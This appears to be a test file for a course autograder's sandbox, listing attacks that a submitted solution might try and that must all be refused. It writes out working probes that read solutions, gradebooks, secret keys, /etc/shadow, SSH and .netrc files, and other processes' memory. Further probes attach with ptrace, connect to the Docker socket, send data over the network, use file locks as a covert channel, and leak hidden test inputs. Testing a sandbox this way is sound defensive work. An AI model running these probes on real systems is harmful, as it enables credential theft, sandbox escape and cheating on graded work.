"""Attacks that try to read what is not their own: answers, other students, secrets, the network."""

from __future__ import annotations

from tests.attacks.base import FULL, REFUSED, TRIED, Attack


def reads(name: str, tries: str, code: str, quick: bool = False, plain: str = "") -> Attack:
    """An attack by a right solution that looks around first; every try of it must be refused."""
    return Attack(
        name,
        "reading",
        tries,
        FULL,
        "solution",
        first=TRIED + "\n" + code.strip("\n"),
        said=REFUSED,
        quick=quick,
        plain=plain,
    )


LISTENS = """
import os, socket
def send(family, kind, address):
    link = socket.socket(family, kind)
    link.settimeout(2)
    link.connect(address)
    link.send(b"a submission was here")
    return True
"""

READING = (
    reads(
        "solutions",
        "looks for the solutions",
        """
import glob, os
tried("folder", lambda: os.listdir("$SOLUTIONS"))
tried("file", lambda: open("$SOLUTIONS/ps02_train_bpe/ps02_train_bpe.ipynb", encoding="utf-8").read())
tried("anywhere", lambda: glob.glob("/*/**/ps02*.ipynb", recursive=True))
tried("repository", lambda: [n for n in os.listdir("$REPO") if n != ".venv"])
""",
        quick=True,
    ),
    reads(
        "other-submissions",
        "looks for other students' submissions and feedback",
        """
import os
tried("class", lambda: os.listdir("$COURSE/submitted"))
tried("other", lambda: open("$OTHER", encoding="utf-8").read())
tried("feedback", lambda: os.listdir("$COURSE/feedback"))
tried("neighbours", lambda: [n for n in os.listdir("..") if n.endswith(".ipynb")] + [n for n in os.listdir(".") if n.endswith(".ipynb")])
""",
        quick=True,
    ),
    reads(
        "gradebook-and-secret",
        "looks for the gradebook, the secret and the records",
        """
import os, sqlite3
tried("gradebook", lambda: open("$COURSE/gradebook.db", "rb").read(16))
tried("rows", lambda: sqlite3.connect("file:$COURSE/gradebook.db?mode=ro", uri=True).execute("select 1 from grade").fetchall())
tried("secret", lambda: open("$COURSE/secret.key", "rb").read())
tried("records", lambda: os.listdir("$COURSE/records"))
tried("runs", lambda: os.listdir("$COURSE/runs"))
tried("configuration", lambda: open("$COURSE/nbgrader_config.py", encoding="utf-8").read())
""",
        quick=True,
    ),
    reads(
        "home",
        "looks through the grader's home folder",
        """
import os
tried("files", lambda: [n for n in os.listdir("$HOME") if os.path.isfile(os.path.join("$HOME", n))])
for place in (".ssh", ".config", ".jupyter", ".ipython", ".bash_history", ".netrc"):
    tried(place, lambda: os.listdir(os.path.join("$HOME", place)) if os.path.isdir(os.path.join("$HOME", place)) else open(os.path.join("$HOME", place), "rb").read())
tried("accounts", lambda: open("/etc/shadow", encoding="utf-8").read())
tried("passwords", lambda: open("/etc/passwd", encoding="utf-8").read())
""",
    ),
    reads(
        "environment",
        "looks for the grader's environment variables",
        """
import os, glob
tried("own", lambda: os.environ.get("COURSE_ATTACK_TOKEN"))
def others():
    found = []
    for path in glob.glob("/proc/*/environ"):
        try:
            found += [path] if b"COURSE_ATTACK_TOKEN" in open(path, "rb").read() else []
        except OSError:
            pass
    return found
tried("others", others)
""",
    ),
    reads(
        "grader-process",
        "looks into the memory and files of the grader's process",
        """
import os, glob
tried("line", lambda: b"python" in open("/proc/$GRADER/cmdline", "rb").read() and os.getpid() != $GRADER and os.listdir("/proc/$GRADER/cwd/autograder"))
tried("files", lambda: [p for p in glob.glob("/proc/$GRADER/fd/*") if "gradebook" in os.readlink(p)])
tried("memory", lambda: open("/proc/$GRADER/mem", "rb").read(1) if os.getpid() != $GRADER else None)
tried("root", lambda: os.path.exists("/proc/1/root$COURSE/secret.key"))
tried("processes", lambda: [p for p in glob.glob("/proc/[0-9]*") if b"nbgrader" in open(p + "/cmdline", "rb").read() or b"tests" in open(p + "/cmdline", "rb").read()])
""",
    ),
    reads(
        "debugger",
        "attaches to other processes",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206
for pid in (1, 2, int("$GRADER"), os.getppid()):
    if pid not in (0, os.getpid()):
        tried(f"attach {pid}", lambda: libc.ptrace(ATTACH, pid, 0, 0) == 0)
        tried(f"seize {pid}", lambda: libc.ptrace(SEIZE, pid, 0, 0) == 0)
tried("keys", lambda: libc.syscall(250, 11, -3, 0, 0, 0) > 0)
""",
        plain="not run",
    ),
    reads(
        "reference",
        "imports the reference, by name, by file and by its compiled form",
        """
import glob, importlib, importlib.util, importlib.machinery, site, sys
tried("name", lambda: importlib.import_module("minbpe_ref").merge)
tried("part", lambda: importlib.import_module("minbpe_ref.base"))
tried("file", lambda: importlib.machinery.SourceFileLoader("m", "$REPO/minbpe_ref/base.py").load_module())
sys.path.insert(0, "$REPO")
sys.meta_path[:] = [f for f in sys.meta_path if isinstance(f, type)]
sys.modules.pop("minbpe_ref", None)
tried("path", lambda: importlib.import_module("minbpe_ref.base"))
tried("compiled", lambda: glob.glob("/*/**/minbpe_ref/**/*.pyc", recursive=True))
sys.path.remove("$REPO")
""",
        quick=True,
    ),
    reads(
        "checks",
        "imports the checks and the engine, past the stand-ins",
        """
import importlib, sys
import autograder
for name in ("autograder.checks", "autograder.checks.ps02", "autograder.judging.engine", "autograder.grading.demo"):
    tried(name, lambda: importlib.import_module(name))
kept, before = sys.modules.pop("autograder"), sys.meta_path[:]
sys.meta_path[:] = [f for f in sys.meta_path if isinstance(f, type)]
sys.path[:] = ["$REPO"] + [p for p in sys.path if "stand-ins" not in p]
tried("past", lambda: importlib.import_module("autograder.checks"))
sys.modules["autograder"], sys.meta_path[:] = kept, before
""",
    ),
    reads(
        "answers-in-packages",
        "searches every installed package for the course's answers",
        """
import os, sys, sysconfig
def search():
    found = []
    for root in {sysconfig.get_paths()["purelib"], *(p for p in sys.path if p.endswith("site-packages"))}:
        for name in ("minbpe_ref", "autograder", "tiktoken_ext"):
            for here, _, files in os.walk(os.path.join(root, name)):
                for file in files:
                    try:
                        text = open(os.path.join(here, file), "rb").read()
                    except OSError:
                        continue
                    found += [file] if b"def merge(" in text or b"Behaviour(" in text else []
    return found
tried("packages", search)
""",
    ),
    reads(
        "open-descriptors",
        "reads whatever files it was given open",
        """
import os
def files():
    found = []
    for n in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{n}")
        except OSError:
            continue
        found += [target] if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/tmp/", "/scratch")) else []
    return found
tried("files", files)
tried("above", lambda: os.open("..", os.O_RDONLY) and os.listdir("/proc/self/cwd/../solutions"))
""",
    ),
    reads(
        "other-kernels",
        "looks for the sockets and folders of other kernels",
        """
import glob, os
tried("folders", lambda: glob.glob("/tmp/tokcourse-*"))
tried("runtime", lambda: glob.glob("/run/user/*") + glob.glob("$HOME/.local/share/jupyter/runtime/*"))
tried("sockets", lambda: [p for p in glob.glob("/run/**/ipc-*", recursive=True) if not p.startswith("/run/sandbox/s/")])
""",
    ),
    reads(
        "network",
        "sends itself over the network",
        LISTENS
        + """
tried("tcp", lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", $PORT)))
tried("tcp6", lambda: send(socket.AF_INET6, socket.SOCK_STREAM, ("::1", $PORT)))
tried("resolve", lambda: socket.getaddrinfo("example.org", 80))
tried("route", lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)))
import urllib.request
tried("http", lambda: urllib.request.urlopen("http://127.0.0.1:$PORT/", timeout=2))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried("packet", lambda: socket.socket(17, socket.SOCK_RAW))
tried("netlink", lambda: socket.socket(16, socket.SOCK_RAW, 0))
""",
        quick=True,
    ),
    reads(
        "datagrams",
        "sends datagrams, which ask nobody for a connection",
        """
import socket
def datagram():
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.sendto(b"a submission was here", ("192.0.2.1", 53))
    return True
tried("away", datagram)
def home():
    # A sender cannot see that nobody listens; the grader's own listener tells.
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"a submission was here", ("127.0.0.1", $PORT))
tried("home", home)
""",
    ),
    reads(
        "local-sockets",
        "connects to sockets on this machine, by path and by abstract name",
        LISTENS
        + """
tried("path", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "$SOCKET"))
tried("abstract", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0course-attack-$PORT"))
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
    tried(path, lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, path))
""",
    ),
    reads(
        "shared-memory",
        "looks for what other processes share in memory",
        """
import ctypes, os
tried("shm", lambda: os.listdir("/dev/shm"))
libc = ctypes.CDLL(None, use_errno=True)
tried("segments", lambda: len(open("/proc/sysvipc/shm", encoding="utf-8").readlines()) > 1)
tried("messages", lambda: len(open("/proc/sysvipc/msg", encoding="utf-8").readlines()) > 1)
""",
    ),
    Attack(
        "locks-between-kernels",
        "reading",
        "tells its other kernel, which is asked hidden inputs, by locks and watches on files that both see",
        FULL,
        "solution",
        first=TRIED
        + """
import ctypes, fcntl, os, struct
libc = ctypes.CDLL(None, use_errno=True)
seen = os.open("/usr/bin/tac", os.O_RDONLY)
BYTE = (fcntl.F_RDLCK, os.SEEK_SET, 4711, 1, 0)
def free(command, kind):
    # Of another's locks alone: a process's own never stand in its way.
    return struct.unpack("hhqqi", fcntl.fcntl(seen, command, struct.pack("hhqqi", kind, *BYTE[1:])))[0] == fcntl.F_UNLCK
for command in (6, 37):  # F_SETLK, F_OFD_SETLK
    try:
        fcntl.fcntl(seen, command, struct.pack("hhqqi", *BYTE))
    except OSError:
        pass
fcntl.flock(seen, fcntl.LOCK_SH)
watch = libc.inotify_init1(os.O_NONBLOCK)  # only now: its own opening is no event
libc.inotify_add_watch(watch, b"/usr/bin/tac", 0x20)
""",
        last="""
tried("byte", lambda: not free(5, fcntl.F_WRLCK))
tried("event", lambda: os.read(watch, 4096))
def held():
    try:
        fcntl.flock(seen, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
tried("whole", held)
""",
        said=REFUSED,
        quick=True,
    ),
    Attack(
        "hidden-inputs-printed",
        "reading",
        "keeps the inputs of its calls and prints them in a later cell",
        FULL,
        "solution",
        first="SEEN = []",
        answers={
            "merge": """
            def merge(ids, pair, idx):
                SEEN.append((list(ids), pair, idx))
                out, i = [], 0
                while i < len(ids):
                    if i < len(ids) - 1 and (ids[i], ids[i + 1]) == pair:
                        out.append(idx)
                        i += 2
                    else:
                        out.append(ids[i])
                        i += 1
                return out
            """
        },
        last='print("ran", bool(SEEN))\nfor seen in SEEN: print(seen)',
        said=("ran ",),
        quick=True,
    ),
    Attack(
        "hidden-inputs-raised",
        "reading",
        "keeps the inputs of its calls and raises them as an error later",
        7.0,
        "solution",
        first="SEEN = []",
        answers={
            "get-stats": """
            def get_stats(ids, counts=None):
                SEEN.append(list(ids))
                counts = {} if counts is None else counts
                for pair in zip(ids, ids[1:]):
                    counts[pair] = counts.get(pair, 0) + 1
                return counts
            """,
            "merge": "def merge(ids, pair, idx): raise ValueError(str(SEEN[21:41]))",
        },
        last='print("ran", bool(SEEN))',
        said=("ran ",),
    ),
)
